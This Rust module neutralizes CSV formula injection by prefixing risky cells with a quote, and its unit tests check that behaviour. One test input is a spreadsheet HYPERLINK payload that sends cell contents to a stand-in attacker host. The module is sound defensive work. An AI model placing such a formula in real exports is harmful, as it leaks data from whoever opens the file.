//! CSV cells that a spreadsheet cannot run. A cell beginning with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is read as a formula by Excel, LibreOffice and Google Sheets (CSV injection:
//! `=HYPERLINK(...)` in a stored name runs on the DPO's machine when they open an export). As
//! OWASP recommends, such a cell is prefixed with a single quote, which spreadsheets show as text.
//! Every CSV the server or the CLI writes goes through [`neutralize`].

use std::borrow::Cow;

/// The characters that make a spreadsheet treat a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it must be written: prefixed with `'` when it begins with a formula character.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// One CSV field (RFC 4180): neutralized, then quoted when it holds a comma, quote or line break.
pub fn field(cell: &str) -> String {
    let cell = neutralize(cell);
    if cell.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_prefixed() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-1+2",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralize(bad), format!("'{bad}"), "{bad:?}");
        }
    }

    #[test]
    fn other_cells_are_unchanged() {
        for ok in ["", "Siti", "1-2", "a=b", " =1", "'quoted", "ani@example.id"] {
            assert_eq!(neutralize(ok), ok);
        }
    }

    #[test]
    fn fields_are_neutralized_then_quoted() {
        assert_eq!(field("plain"), "plain");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(field("=1,2"), "\"'=1,2\"");
        assert_eq!(field("-1+2"), "'-1+2");
    }
}
